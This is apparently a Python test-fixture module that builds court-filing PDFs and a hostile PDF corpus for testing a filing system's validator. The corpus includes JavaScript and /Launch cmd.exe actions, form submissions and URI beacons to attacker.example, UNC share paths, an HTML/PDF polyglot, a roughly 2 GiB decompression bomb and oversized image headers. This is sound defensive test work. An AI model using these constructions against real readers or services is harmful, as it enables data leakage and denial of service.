"""Build real PDF files for tests: well-formed filings and a hostile corpus.

Every function writes one file at `path` and returns `path`, so a test reads
`make_pdf(tmp_path / "motion.pdf", pages=3)`. Nothing here is stored in the
repository: each file is generated in the test's temporary directory.

Well-formed files come from reportlab; the hostile ones are edited with pypdf or
assembled byte by byte with `assemble_pdf`, which writes a correct xref table so
that each file is broken in exactly one way.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)
from reportlab.lib.pagesizes import LETTER
from reportlab.pdfgen import canvas

LEGAL = (612.0, 1008.0)
TABLOID = (792.0, 1224.0)  # 11 x 17 in
ARCH_C = (1224.0, 1584.0)  # 17 x 22 in

DEFAULT_TEXT = (
    "UNITED STATES BANKRUPTCY COURT\n"
    "In re: Jane Q. Debtor, Debtor. Case No. 24-10001\n"
    "MOTION TO EXTEND TIME\n"
    "The debtor moves for an extension of time to file schedules.\n"
    "/s/ Alex Attorney\n"
    "Alex Attorney, Counsel for the Debtor"
)


def pdf_bytes(
    *,
    pages: int = 1,
    text: str | Sequence[str] = DEFAULT_TEXT,
    pagesize: tuple[float, float] | Sequence[tuple[float, float]] = LETTER,
    compress: bool = True,
) -> bytes:
    """Return a text PDF of `pages` pages.

    `text` is one string for every page or one string per page; `pagesize` is
    one (width, height) in points or one per page.
    """
    texts = [text] * pages if isinstance(text, str) else list(text)
    sizes = _per_page_sizes(pagesize, pages)
    if len(texts) != pages:
        raise ValueError("give one text per page")
    buffer = io.BytesIO()
    pdf = canvas.Canvas(
        buffer, pagesize=sizes[0], invariant=1, pageCompression=int(compress)
    )
    for number, (page_text, size) in enumerate(zip(texts, sizes, strict=True), 1):
        pdf.setPageSize(size)
        lines = page_text.replace("{page}", str(number)).split("\n")
        text_object = pdf.beginText(54, size[1] - 72)
        text_object.setFont("Helvetica", 11)
        for line in lines:
            text_object.textLine(line)
        pdf.drawText(text_object)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def make_pdf(
    path: Path,
    *,
    pages: int = 1,
    text: str | Sequence[str] = DEFAULT_TEXT,
    pagesize: tuple[float, float] | Sequence[tuple[float, float]] = LETTER,
) -> Path:
    """Write a valid text PDF (see `pdf_bytes`)."""
    path.write_bytes(pdf_bytes(pages=pages, text=text, pagesize=pagesize))
    return path


def make_image_only_pdf(path: Path, *, pages: int = 1) -> Path:
    """Write a scanned-looking PDF: one grey bitmap per page and no text layer."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader

    image = Image.new("L", (425, 550), 255)
    draw = ImageDraw.Draw(image)
    for y in range(40, 520, 14):  # ruled "lines of type" with no glyphs
        draw.line((40, y, 380 - (y % 90), y), fill=40, width=3)
    encoded = io.BytesIO()
    image.save(encoded, format="PNG")
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=LETTER, invariant=1)
    for _ in range(pages):
        encoded.seek(0)
        pdf.drawImage(ImageReader(encoded), 0, 0, width=612, height=792)
        pdf.showPage()
    pdf.save()
    path.write_bytes(buffer.getvalue())
    return path


def make_oversized_pdf(
    path: Path,
    *,
    sizes: Sequence[tuple[float, float]] = (LETTER, ARCH_C, TABLOID),
    text: str = DEFAULT_TEXT,
) -> Path:
    """Write one page per size; the defaults put oversized pages at 2 and 3."""
    return make_pdf(path, pages=len(sizes), text=text, pagesize=list(sizes))


def make_encrypted_pdf(path: Path, *, user_password: str = "") -> Path:
    """Write an encrypted PDF; the default empty user password opens without asking."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    writer.encrypt(user_password=user_password, owner_password="owner-secret")
    return _write(writer, path)


JS_PLACES = ("open_action", "page_aa", "annotation", "names", "obfuscated")


def make_javascript_pdf(
    path: Path, *, where: Iterable[str] = ("open_action", "page_aa")
) -> Path:
    """Write a PDF carrying JavaScript in each place named in `where` (JS_PLACES).

    "obfuscated" spells the names with #xx escapes (/J#53, /Java#53cript), as
    malicious files do to dodge byte searches.
    """
    where = tuple(where)
    if "obfuscated" in where:
        page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
        objects = [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>",
        ]
        path.write_bytes(assemble_pdf(objects))
        return path
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    page = writer.pages[0]
    if "open_action" in where:
        writer._root_object[NameObject("/OpenAction")] = _js_action("app.alert(1)")
    if "page_aa" in where:
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _js_action("app.alert(2)")}
        )
    if "annotation" in where:
        _add_annotation(
            writer,
            page,
            {"/Subtype": NameObject("/Link"), "/A": _js_action("app.alert(3)")},
        )
    if "names" in where:
        tree = DictionaryObject(
            {
                NameObject("/Names"): ArrayObject(
                    [TextStringObject("init"), _js_action("app.alert(4)")]
                )
            }
        )
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): writer._add_object(tree)}
        )
    return _write(writer, path)


def make_launch_pdf(path: Path) -> Path:
    """Write a PDF whose OpenAction launches an external program."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
            NameObject("/Win"): DictionaryObject(
                {
                    NameObject("/F"): TextStringObject("cmd.exe"),
                    NameObject("/P"): TextStringObject("/c calc"),
                }
            ),
        }
    )
    return _write(writer, path)


def make_embedded_file_pdf(path: Path, *, how: str = "names") -> Path:
    """Write a PDF with a file inside it: "names" (/EmbeddedFiles) or "annotation"."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    if how == "names":
        writer.add_attachment("payload.txt", b"not for the docket")
    elif how == "annotation":
        data = DecodedStreamObject()
        data.set_data(b"not for the docket")
        data[NameObject("/Type")] = NameObject("/EmbeddedFile")
        filespec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject("payload.txt"),
                NameObject("/EF"): DictionaryObject(
                    {NameObject("/F"): writer._add_object(data)}
                ),
            }
        )
        _add_annotation(
            writer,
            writer.pages[0],
            {
                "/Subtype": NameObject("/FileAttachment"),
                "/FS": writer._add_object(filespec),
            },
        )
    else:
        raise ValueError(how)
    return _write(writer, path)


def make_media_pdf(path: Path, *, subtype: str = "/Sound") -> Path:
    """Write a PDF with an audio/video annotation (/Sound, /Movie, /RichMedia)."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    _add_annotation(writer, writer.pages[0], {"/Subtype": NameObject(subtype)})
    return _write(writer, path)


def make_form_pdf(
    path: Path, *, value: str = "Jane Q. Debtor", text: str = DEFAULT_TEXT
) -> Path:
    """Write a PDF with one filled-in text field (an AcroForm widget)."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=LETTER, invariant=1)
    pdf.setFont("Helvetica", 11)
    text_object = pdf.beginText(54, 720)
    for line in text.split("\n"):
        text_object.textLine(line)
    pdf.drawText(text_object)
    pdf.drawString(54, 470, "Name of debtor:")
    pdf.acroForm.textfield(
        name="debtor_name",
        value=value,
        x=150,
        y=460,
        width=250,
        height=22,
        fontName="Helvetica",
        fontSize=11,
        borderWidth=1,
    )
    pdf.showPage()
    pdf.save()
    path.write_bytes(buffer.getvalue())
    return path


def make_xfa_pdf(path: Path) -> Path:
    """Write a PDF whose AcroForm carries an XFA (dynamic form) packet."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script/></xdp:xdp>')
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): writer._add_object(xfa),
        }
    )
    return _write(writer, path)


UNC_PATH = "\\\\attacker.example\\share\\x.pdf"

# One hostile file per action kind (dockets/pdf/actions.py): each fires
# without a click, or reaches outside the document when clicked.
HOSTILE_ACTIONS = (
    "open_gotor",
    "open_gotoe",
    "open_importdata",
    "open_submitform",
    "open_resetform",
    "open_hide",
    "open_named_print",
    "open_uri",
    "open_goto_next_uri",
    "document_aa_uri",
    "page_aa_gotor",
    "annotation_aa_uri",
    "field_aa_submitform",
    "link_gotor",
    "link_importdata",
    "link_named_print",
    "link_unc_uri",
    "link_file_uri",
)
# Files that do only what Word, Acrobat and browsers write: open at a page,
# move within the document, link to a web page.
BENIGN_ACTIONS = (
    "open_destination",
    "open_goto",
    "link_https",
    "link_goto",
    "link_named_next",
)


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        if isinstance(value, str):
            value = (
                NameObject(value) if value.startswith("/") else TextStringObject(value)
            )
        action[NameObject("/" + key)] = value
    return action


def make_action_pdf(path: Path, kind: str, *, text: str = DEFAULT_TEXT) -> Path:
    """Write a two-page text PDF carrying one action of `kind`.

    `kind` is one of HOSTILE_ACTIONS or BENIGN_ACTIONS: "open_*" is the
    catalog's /OpenAction, "*_aa_*" an /AA entry, "link_*" a link annotation's
    /A (run by a click).
    """
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes(pages=2, text=text)))
    root = writer._root_object
    page = writer.pages[0]
    second = writer.pages[1].indirect_reference
    fit = ArrayObject([second, NameObject("/Fit")])
    remote = TextStringObject(UNC_PATH)
    actions = {
        "gotor": lambda: _action(
            "/GoToR", F=remote, D=ArrayObject([NumberObject(0), NameObject("/Fit")])
        ),
        "gotoe": lambda: _action("/GoToE", F=remote, D=TextStringObject("x")),
        "importdata": lambda: _action("/ImportData", F=remote),
        "submitform": lambda: _action(
            "/SubmitForm", F=TextStringObject("https://attacker.example/collect")
        ),
        "resetform": lambda: _action("/ResetForm"),
        "hide": lambda: _action("/Hide", T=TextStringObject("debtor_name")),
        "named_print": lambda: _action("/Named", N="/Print"),
        "named_next": lambda: _action("/Named", N="/NextPage"),
        "uri": lambda: _action(
            "/URI", URI=TextStringObject("https://attacker.example/beacon.gif")
        ),
        "unc_uri": lambda: _action("/URI", URI=remote),
        "file_uri": lambda: _action(
            "/URI", URI=TextStringObject("file://attacker.example/share/x.pdf")
        ),
        "https": lambda: _action(
            "/URI",
            URI=TextStringObject("https://www.law.cornell.edu/uscode/text/11/362"),
        ),
        "goto": lambda: _action("/GoTo", D=fit),
    }
    place, _, what = kind.partition("_")
    if kind == "open_destination":
        root[NameObject("/OpenAction")] = ArrayObject(
            [page.indirect_reference, NameObject("/XYZ"), *(NullObject(),) * 3]
        )
    elif kind == "open_goto_next_uri":
        goto = actions["goto"]()
        goto[NameObject("/Next")] = actions["uri"]()
        root[NameObject("/OpenAction")] = goto
    elif place == "open":
        root[NameObject("/OpenAction")] = actions[what]()
    elif kind == "document_aa_uri":
        root[NameObject("/AA")] = DictionaryObject(
            {NameObject("/WC"): actions["uri"]()}
        )
    elif kind == "page_aa_gotor":
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): actions["gotor"]()}
        )
    elif kind == "annotation_aa_uri":
        _add_annotation(
            writer,
            page,
            {
                "/Subtype": NameObject("/Link"),
                "/AA": DictionaryObject({NameObject("/PV"): actions["uri"]()}),
            },
        )
    elif kind == "field_aa_submitform":
        _add_annotation(
            writer,
            page,
            {
                "/Subtype": NameObject("/Widget"),
                "/FT": NameObject("/Tx"),
                "/T": TextStringObject("debtor_name"),
                "/AA": DictionaryObject({NameObject("/Fo"): actions["submitform"]()}),
            },
        )
    elif place == "link":
        _add_annotation(
            writer, page, {"/Subtype": NameObject("/Link"), "/A": actions[what]()}
        )
    else:
        raise ValueError(kind)
    return _write(writer, path)


IMAGE_CODECS = ("/JBIG2Decode", "/DCTDecode", "/JPXDecode", "/CCITTFaxDecode")


def make_codec_content_pdf(path: Path, codec: str = "/DCTDecode") -> Path:
    """Write a PDF whose page content stream claims an image codec as its filter."""
    data = jpeg_header(60_000, 60_000) if codec == "/DCTDecode" else b"\x00" * 64
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        stream_object(data, b"/Filter %s " % codec.encode()),
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def jpeg_header(width: int, height: int, components: int = 3) -> bytes:
    """The start of a JPEG: SOI, an APP0 segment, and a baseline frame header."""
    frame = struct.pack(">BHHB", 8, height, width, components)
    frame += b"".join(bytes([i + 1, 0x11, 0]) for i in range(components))
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return (
        b"\xff\xd8"
        + b"\xff\xe0"
        + struct.pack(">H", len(app0) + 2)
        + app0
        + b"\xff\xc0"
        + struct.pack(">H", len(frame) + 2)
        + frame
        + b"\xff\xd9"
    )


def jpx_codestream(width: int, height: int, components: int = 3) -> bytes:
    """The start of a JPEG 2000 codestream: SOC and a SIZ marker."""
    siz = struct.pack(
        ">HIIIIIIIIH", 0, width, height, 0, 0, width, height, 0, 0, components
    )
    siz += b"\x07\x01\x01" * components
    return b"\xff\x4f\xff\x51" + struct.pack(">H", len(siz) + 2) + siz + b"\xff\xd9"


def jbig2_segment(number: int, kind: int, body: bytes, *, page: int = 1) -> bytes:
    """One JBIG2 segment (embedded format): header, then `body`."""
    return struct.pack(">IBBBI", number, kind, 0, page, len(body)) + body


def jbig2_page_info(width: int, height: int) -> bytes:
    return jbig2_segment(0, 48, struct.pack(">IIIIBH", width, height, 0, 0, 0, 0))


def jbig2_region(width: int, height: int, number: int = 1) -> bytes:
    """An immediate generic region segment's header: region information only."""
    return jbig2_segment(
        number, 38, struct.pack(">IIIIB", width, height, 0, 0, 0) + b"\x00"
    )


def jbig2_symbol_dictionary(symbols: int) -> bytes:
    """A symbol dictionary (generic template 0) declaring `symbols` symbols."""
    body = struct.pack(">H", 0) + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe"
    body += struct.pack(">II", symbols, symbols)
    return jbig2_segment(0, 0, body, page=0)


HOSTILE_IMAGES = (
    "real_width",
    "too_many_samples",
    "jpeg_gigapixel",
    "jpx_gigapixel",
    "jp2_gigapixel",
    "jbig2_page_gigapixel",
    "jbig2_region_gigapixel",
    "jbig2_globals_symbols",
    "jbig2_globals_gigapixel",
    "ccitt_columns",
    "flate_wrapped_jpx_gigapixel",
)


def make_image_pdf(path: Path, kind: str) -> Path:
    """Write a one-page PDF with one small-looking image that declares a huge one.

    `kind` is one of HOSTILE_IMAGES; the image dictionary itself says 10 x 10
    unless the kind is about the dictionary.
    """
    width, height, space = b"10", b"10", b"/DeviceGray"
    extra = b""
    globals_body = None
    data = b"\x00" * 16
    codec = b""
    if kind == "real_width":
        width = b"100.5"
    elif kind == "too_many_samples":
        width, height = b"20000", b"10000"
        space = b"[/DeviceN [/A /B /C /D /E /F /G /H] /DeviceCMYK 9 0 R]"
    elif kind == "jpeg_gigapixel":
        codec, data = b"/DCTDecode", jpeg_header(60_000, 60_000)
    elif kind == "jpx_gigapixel":
        codec, data = b"/JPXDecode", jpx_codestream(100_000, 100_000)
    elif kind == "jp2_gigapixel":
        ihdr = struct.pack(">IIHBBBB", 100_000, 100_000, 3, 7, 7, 0, 0)
        jp2h = struct.pack(">I4s", 8 + len(ihdr), b"ihdr") + ihdr
        data = (
            b"\x00\x00\x00\x0cjP  \r\n\x87\n"
            + struct.pack(">I4s", 8 + len(jp2h), b"jp2h")
            + jp2h
            + struct.pack(">I4s", 8 + 60, b"jp2c")
            + jpx_codestream(10, 10)[:60]
        )
        codec = b"/JPXDecode"
    elif kind == "jbig2_page_gigapixel":
        codec, data = b"/JBIG2Decode", jbig2_page_info(100_000, 100_000)
    elif kind == "jbig2_region_gigapixel":
        codec = b"/JBIG2Decode"
        data = jbig2_page_info(10, 10) + jbig2_region(100_000, 100_000)
    elif kind in ("jbig2_globals_symbols", "jbig2_globals_gigapixel"):
        codec = b"/JBIG2Decode"
        data = jbig2_page_info(10, 10) + jbig2_region(10, 10)
        globals_body = (
            jbig2_symbol_dictionary(2_000_000_000)
            if kind == "jbig2_globals_symbols"
            else jbig2_region(100_000, 100_000)
        )
        extra = b"/DecodeParms << /JBIG2Globals 5 0 R >> "
    elif kind == "ccitt_columns":
        codec = b"/CCITTFaxDecode"
        extra = b"/DecodeParms << /K -1 /Columns 1000000 /Rows 100000 >> "
    elif kind == "flate_wrapped_jpx_gigapixel":
        codec, data = (
            b"[/FlateDecode /JPXDecode]",
            zlib.compress(jpx_codestream(100_000, 100_000)),
        )
    else:
        raise ValueError(kind)
    entries = (
        b"/Type /XObject /Subtype /Image /Width %s /Height %s /BitsPerComponent 8 "
        b"/ColorSpace %s " % (width, height, space)
    )
    if codec:
        entries += b"/Filter %s " % codec
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 6 0 R >>",
        stream_object(data, entries + extra),
        stream_object(globals_body or b""),
        stream_object(b"q 100 0 0 100 72 600 cm /Im1 Do Q"),
        b"null",
        b"null",
        b"<< /FunctionType 2 /Domain [0 1] /N 1 >>",
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_inline_image_pdf(
    path: Path,
    *,
    width: bytes = b"100000",
    height: bytes = b"100000",
    flate: bool = True,
    in_form: bool = False,
) -> Path:
    """Write a PDF whose page (or a form it draws) holds one inline image
    declaring `width` x `height` grey pixels (with 4 bytes of data)."""
    content = (
        b"q 100 0 0 100 72 600 cm BI /W %s /H %s /CS /G /BPC 8 ID \x00\x00\x00\x00 EI Q"
        % (width, height)
    )
    entries = b""
    if flate:
        content, entries = zlib.compress(content), b"/Filter /FlateDecode "
    page_content = stream_object(content, entries)
    resources = b""
    if in_form:
        page_content = stream_object(b"q /Fm1 Do Q")
        resources = b" /Resources << /XObject << /Fm1 5 0 R >> >>"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R%s >>"
        % resources,
        page_content,
        stream_object(
            content, entries + b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        ),
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_photo_pdf(path: Path, *, codec: str = "jpeg") -> Path:
    """Write a PDF with a real photo, as a scanner or phone app would: JPEG or JPEG 2000."""
    from PIL import Image

    image = Image.new("RGB", (640, 480), (200, 180, 150))
    for x in range(0, 640, 8):
        image.putpixel((x, x % 480), (10, 20, 30))
    encoded = io.BytesIO()
    image.save(encoded, format="JPEG" if codec == "jpeg" else "JPEG2000")
    name = b"/DCTDecode" if codec == "jpeg" else b"/JPXDecode"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>",
        stream_object(
            encoded.getvalue(),
            b"/Type /XObject /Subtype /Image /Width 640 /Height 480 "
            b"/BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter %s " % name,
        ),
        stream_object(b"q 612 0 0 459 0 166 cm /Im1 Do Q"),
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_jbig2_scan_pdf(path: Path) -> Path:
    """Write a PDF with a letter-size 300 dpi JBIG2 page header, as scanners write."""
    data = jbig2_page_info(2550, 3300) + jbig2_region(2550, 3300)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 6 0 R >>",
        stream_object(
            data,
            b"/Type /XObject /Subtype /Image /Width 2550 /Height 3300 "
            b"/BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode "
            b"/DecodeParms << /JBIG2Globals 5 0 R >> ",
        ),
        stream_object(jbig2_symbol_dictionary(1200)),
        stream_object(b"q 612 0 0 792 0 0 cm /Im1 Do Q"),
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_empty_pdf(path: Path) -> Path:
    """Write a well-formed PDF with zero pages."""
    return _write(PdfWriter(), path)


def make_truncated_pdf(path: Path, *, keep: float = 0.6) -> Path:
    """Write the first `keep` fraction of a valid 3-page PDF (an interrupted upload)."""
    data = pdf_bytes(pages=3)
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def make_malformed_xref_pdf(path: Path) -> Path:
    """Write a PDF whose startxref and xref offsets all point to the wrong bytes."""
    data = pdf_bytes(pages=2)
    xref_at = data.rindex(b"\nxref\n") + 1
    start_at = data.rindex(b"startxref\n") + len(b"startxref\n")
    end_at = data.index(b"\n", start_at)
    head, table = data[:xref_at], data[xref_at:start_at]
    # Shift every "nnnnnnnnnn 00000 n" offset by 7 bytes, then point startxref
    # into the middle of an object.
    entries = table.split(b"\n")
    shifted = [
        b"%010d%s" % (int(line[:10]) + 7, line[10:]) if line.endswith(b" n ") else line
        for line in entries
    ]
    broken = head + b"\n".join(shifted) + b"%d" % (xref_at // 2) + data[end_at:]
    path.write_bytes(broken)
    return path


def make_deeply_nested_pdf(
    path: Path, *, depth: int = 100_000, kind: str = "array"
) -> Path:
    """Write a PDF with an object nested `depth` levels deep.

    "array" nests [[[...]]], "dict" nests << /A << /A ... >> >>, and "chain"
    links `depth` indirect objects each pointing at the next one.
    """
    if kind == "array":
        nested = b"[" * depth + b"]" * depth
    elif kind == "dict":
        nested = b"<< /A " * depth + b">> " * depth
    elif kind == "chain":
        nested = b"5 0 R"
    else:
        raise ValueError(kind)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /PieceInfo " + nested + b" >>",
        stream_object(b"BT /F1 12 Tf 72 720 Td (Nested) Tj ET"),
    ]
    if kind == "chain":
        first = len(objects) + 1
        objects += [b"[%d 0 R]" % (n + 1) for n in range(first, first + depth - 1)]
        objects.append(b"null")
    path.write_bytes(assemble_pdf(objects))
    return path


def make_bomb_pdf(path: Path, *, inflated_bytes: int = 2 << 30) -> Path:
    """Write a one-page PDF whose content stream inflates to `inflated_bytes`.

    The file is about 1/1000 of that size: a 1 MiB block of zeros is deflated
    once with a full flush (which makes blocks independent) and repeated.
    """
    chunk_size = 1 << 20
    compressor = zlib.compressobj(9)
    block = compressor.compress(bytes(chunk_size)) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeats = max(1, inflated_bytes // chunk_size)
    body = block[2:]  # drop the zlib header; it is written once below
    total = repeats * chunk_size
    adler = ((total % 65521) << 16) | 1  # adler32 of n zero bytes
    # zlib header, the repeated blocks, an empty final block (03 00), adler32.
    deflated = b"\x78\xda" + body * repeats + b"\x03\x00" + adler.to_bytes(4, "big")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(deflated)
        + deflated
        + b"\nendstream",
    ]
    path.write_bytes(assemble_pdf(objects))
    return path


def make_huge_page_count_pdf(
    path: Path, *, fanout: int = 1000, levels: int = 3
) -> Path:
    """Write a tiny file whose page tree claims fanout**levels pages.

    Each intermediate node lists the same child `fanout` times, so the tree
    expands like a "billion laughs" attack while the file stays a few kB.
    """
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        number = level + 2
        child = number + 1
        count = fanout ** (levels - level)
        kids = b" ".join([b"%d 0 R" % child] * fanout)
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (number - 1)
        objects.append(
            b"<< /Type /Pages /Kids [%s] /Count %d%s >>" % (kids, count, parent)
        )
    objects.append(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (levels + 1)
    )
    path.write_bytes(assemble_pdf(objects))
    return path


def make_not_a_pdf(path: Path, *, kind: str = "docx") -> Path:
    """Write a non-PDF under a .pdf name: a Word-like ZIP, or plain "text"."""
    if kind == "docx":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr("word/document.xml", "<w:document>Motion</w:document>")
        path.write_bytes(buffer.getvalue())
    elif kind == "text":
        path.write_text("MOTION TO EXTEND TIME\nThis is a plain text file.\n")
    else:
        raise ValueError(kind)
    return path


def make_polyglot_pdf(path: Path, *, kind: str = "html_prefix") -> Path:
    """Write a file that is a PDF and something else at once.

    "html_prefix": an HTML page whose %PDF- header sits a few hundred bytes in.
    "zip_appended": a valid PDF with a ZIP archive appended after %%EOF (ZIP
    readers look for their directory at the end, PDF readers at the start).
    """
    data = pdf_bytes()
    if kind == "html_prefix":
        prefix = b"<html><body><script>alert(document.domain)</script><!--\n"
        path.write_bytes(prefix + data + b"\n-->\n</body></html>\n")
    elif kind == "zip_appended":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
            archive.writestr("payload.js", "var x = 1;\n" * 400)
        path.write_bytes(data + buffer.getvalue())
    else:
        raise ValueError(kind)
    return path


def assemble_pdf(
    objects: Sequence[bytes],
    *,
    root: int = 1,
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
) -> bytes:
    """Return a PDF whose object n is `objects[n - 1]`, with a correct xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def stream_object(data: bytes, entries: bytes = b"") -> bytes:
    """Return the body of a stream object holding `data` (for `assemble_pdf`)."""
    return (
        b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"
    )


def _per_page_sizes(
    pagesize: tuple[float, float] | Sequence[tuple[float, float]], pages: int
) -> list[tuple[float, float]]:
    if len(pagesize) == 2 and all(isinstance(v, int | float) for v in pagesize):
        return [tuple(pagesize)] * pages  # type: ignore[list-item]
    sizes = [tuple(size) for size in pagesize]  # type: ignore[union-attr]
    if len(sizes) != pages:
        raise ValueError("give one page size per page")
    return sizes  # type: ignore[return-value]


def _js_action(script: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )


def _add_annotation(writer: PdfWriter, page, entries: dict) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject(
                [FloatObject(v) for v in (72, 72, 144, 144)]
            ),
            NameObject("/F"): NumberObject(4),
        }
    )
    for key, value in entries.items():
        annotation[NameObject(key)] = value
    annotations = page.get("/Annots")
    if annotations is None:
        annotations = ArrayObject()
        page[NameObject("/Annots")] = annotations
    annotations.get_object().append(writer._add_object(annotation))


def _write(writer: PdfWriter, path: Path) -> Path:
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def page_count(path: Path) -> int:
    """Return the page count pypdf reads from `path` (for assertions)."""
    return len(PdfReader(path).pages)
